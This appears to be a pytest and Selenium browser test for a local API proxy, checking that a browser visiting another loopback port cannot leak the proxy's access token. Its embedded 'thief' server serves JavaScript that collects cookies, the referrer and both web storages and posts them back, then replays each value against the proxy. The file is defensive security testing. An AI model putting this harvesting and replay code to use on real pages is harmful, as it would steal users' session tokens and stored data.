"""What a browser holds for ``uds-client proxy`` opens nothing when it reaches another local port.

Cookies are per host, not per port: a cookie the proxy set would go to any page served on
127.0.0.1, by any user. So the proxy sets none, and its docs page sends the token as a header
(Swagger UI's ``requestInterceptor``). Here headless Chromium opens the proxy's tokened URL, uses
Swagger UI's "Try it out", then visits a page that uid 65534 serves on another loopback port; that
page and its server replay everything the browser gave them (cookies, Referer, the page's
storage) against the proxy, which must refuse it all.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from collections.abc import Iterator
from typing import Any

import pytest
from selenium import webdriver
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.remote.webelement import WebElement
from selenium.webdriver.support.wait import WebDriverWait

from tests.browser.test_docs_browser import RENDER_TIMEOUT, SWAGGER_POST, wait_for_css
from tests.client.test_proxy import Proxy
from tests.support import NOBODY, PYTHON, ServerProcess, http_over_uds, require_tool, short_tmpdir, wait_until

pytestmark = [pytest.mark.browser, pytest.mark.slow]

# The other port's server: it records what the browser sent it and replays every value, as a
# cookie, as the proxy's token header and as ?token=, against the proxy, from its own uid.
_THIEF = r"""
import http.client, http.server, json, os, sys
proxy_port, port_file = int(sys.argv[1]), sys.argv[2]
seen = {"visits": 0, "cookies": [], "referers": [], "replays": []}

def replay(source, value):
    candidates = {value}
    for part in value.replace("&", ";").replace("?", ";").split(";"):
        candidates.add(part.strip().partition("=")[2])
    candidates.discard("")
    ways = [("cookie", {"Cookie": value}, "/messages")]
    for candidate in sorted(candidates):
        ways.append(("header", {"Uds-Proxy-Token": candidate}, "/messages"))
        ways.append(("url", {}, "/messages?token=" + candidate))
    for how, headers, target in ways:
        conn = http.client.HTTPConnection("127.0.0.1", proxy_port, timeout=10)
        body = json.dumps({"text": "replayed by uid %d" % os.getuid()})
        conn.request("POST", target, body, {"Content-Type": "application/json", **headers})
        status = conn.getresponse().status
        conn.close()
        seen["replays"].append({"source": source, "how": how, "value": value, "status": status})

PAGE = b'''<!doctype html><title>another port</title><script>
const loot = {cookie: document.cookie, referrer: document.referrer,
              local: JSON.stringify({...localStorage}), session: JSON.stringify({...sessionStorage})};
fetch("/loot", {method: "POST", body: JSON.stringify(loot)})
  .then((r) => r.text()).then(() => { document.title = "done"; });
</script>'''

class Thief(http.server.BaseHTTPRequestHandler):
    def _took(self):
        if self.headers.get("Cookie"):
            seen["cookies"].append(self.headers["Cookie"])
            replay("cookie header", self.headers["Cookie"])
        if self.headers.get("Referer"):
            seen["referers"].append(self.headers["Referer"])
            replay("referer header", self.headers["Referer"])

    def _answer(self, body, kind):
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        if self.path == "/report":
            self._answer(json.dumps(seen).encode(), "application/json")
            return
        seen["visits"] += 1
        self._took()
        self._answer(PAGE, "text/html")

    def do_POST(self):
        loot = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self._took()
        for source, value in loot.items():
            if value and value != "{}":
                replay(source, value)
        self._answer(b"{}", "application/json")

    def log_message(self, *args):
        pass

server = http.server.HTTPServer(("127.0.0.1", 0), Thief)
with open(port_file + ".tmp", "w") as out:
    out.write(str(server.server_address[1]))
os.rename(port_file + ".tmp", port_file)
server.serve_forever()
"""


class Thief:
    """The other port's server, run as uid 65534 with ``setpriv``."""

    def __init__(self, proxy_port: int) -> None:
        self.directory = short_tmpdir("thief")
        os.chown(self.directory, NOBODY, NOBODY)
        port_file = self.directory / "port"
        self.proc = subprocess.Popen(
            [
                require_tool("setpriv"),
                f"--reuid={NOBODY}",
                f"--regid={NOBODY}",
                "--clear-groups",
                "--",
                PYTHON,
                "-c",
                _THIEF,
                str(proxy_port),
                str(port_file),
            ],
            cwd="/",
            env={"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"},
        )

        def port() -> int | None:
            if self.proc.poll() is not None:
                raise AssertionError(f"the other port's server exited with {self.proc.returncode}")
            return int(port_file.read_text()) if port_file.exists() else None

        self.port = wait_until(port, timeout=15, what="the other port's server")

    def report(self) -> dict[str, Any]:
        status, body = _get(self.port, "/report")
        assert status == 200
        answer: dict[str, Any] = json.loads(body)
        return answer

    def close(self) -> None:
        self.proc.kill()
        self.proc.wait()
        shutil.rmtree(self.directory, ignore_errors=True)


def _get(port: int, target: str) -> tuple[int, bytes]:
    import http.client

    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        conn.request("GET", target)
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


@pytest.fixture
def thief(token_proxy: Proxy) -> Iterator[Thief]:
    running = Thief(token_proxy.port)
    try:
        yield running
    finally:
        running.close()


def _stored(server: ServerProcess) -> list[dict[str, Any]]:
    assert server.socket_path is not None
    status, body = http_over_uds(server.socket_path, "GET", "/messages?limit=1000")
    assert status == 200
    messages: list[dict[str, Any]] = json.loads(body)["messages"]
    return messages


def _try_it_out(chrome: webdriver.Chrome, text: str) -> WebElement:
    """Open ``POST /v1/messages`` in Swagger UI, "Try it out" with ``text``, Execute; its block."""
    summary = chrome.find_element(By.CSS_SELECTOR, SWAGGER_POST)
    summary.click()
    block = summary.find_element(By.XPATH, "./ancestor::div[contains(concat(' ', @class, ' '), ' opblock ')]")
    wait = WebDriverWait(chrome, RENDER_TIMEOUT)
    wait.until(lambda _: block.find_element(By.CSS_SELECTOR, ".try-out__btn")).click()
    body = wait.until(lambda _: block.find_element(By.CSS_SELECTOR, "textarea.body-param__text"))
    body.send_keys(Keys.CONTROL, "a")
    body.send_keys(Keys.DELETE)
    body.send_keys(json.dumps({"text": text}))
    block.find_element(By.CSS_SELECTOR, "button.execute").click()
    return block


def test_nothing_the_browser_holds_for_the_proxy_opens_it_from_another_port(
    chrome: webdriver.Chrome, token_proxy: Proxy, docs_server: ServerProcess, thief: Thief
) -> None:
    base = f"http://127.0.0.1:{token_proxy.port}"
    before = len(_stored(docs_server))
    chrome.get(f"{base}/docs?token={token_proxy.token}")
    wait_for_css(chrome, SWAGGER_POST)
    block = _try_it_out(chrome, "Hello from Swagger UI")
    status = WebDriverWait(chrome, RENDER_TIMEOUT).until(
        lambda _: block.find_element(By.CSS_SELECTOR, ".live-responses-table tbody .response-col_status").text
    )
    assert status.strip() == "201", block.text
    stored = _stored(docs_server)
    assert [m["text"] for m in stored[before:]] == ["Hello from Swagger UI"]
    # Admitted by the token: the browser acts as the proxy's user, and nothing names it.
    assert "forwarded_for" not in stored[-1]["peer"]
    # The browser holds no cookie for the proxy, and the page stored nothing.
    assert chrome.get_cookies() == []
    storage = chrome.execute_script("return [localStorage.length, sessionStorage.length]")
    assert storage == [0, 0]

    # Leave the docs page for the other port's page, as a link on it would.
    chrome.execute_script("window.location.href = arguments[0]", f"http://127.0.0.1:{thief.port}/")
    WebDriverWait(chrome, RENDER_TIMEOUT).until(lambda d: d.title == "done")
    report = wait_until(lambda: r if (r := thief.report())["visits"] else None, what="the other port's visit")
    # The browser sent no cookie there, nor its address with the token; whatever it sent was
    # replayed against the proxy and refused.
    assert report["cookies"] == [], report
    assert all(token_proxy.token not in r for r in report["referers"]), report
    assert all(replay["status"] == 403 for replay in report["replays"]), report["replays"]
    assert [m["text"] for m in _stored(docs_server)[before:]] == ["Hello from Swagger UI"]


def test_the_replay_admits_a_leaked_token(
    token_proxy: Proxy, docs_server: ServerProcess, thief: Thief
) -> None:
    # The other port's server, handed the token as a browser's cookie would hand it, gets in by
    # header and by URL: the refusals above are the proxy's, not a broken replay.
    import http.client

    conn = http.client.HTTPConnection("127.0.0.1", thief.port, timeout=30)
    try:
        conn.request("GET", "/", headers={"Cookie": f"uds-proxy-{token_proxy.port}={token_proxy.token}"})
        assert conn.getresponse().status == 200
    finally:
        conn.close()
    replays = thief.report()["replays"]
    assert {(r["how"], r["status"]) for r in replays if r["status"] != 403} == {("header", 201), ("url", 201)}
    assert any(m["text"] == f"replayed by uid {NOBODY}" for m in _stored(docs_server))
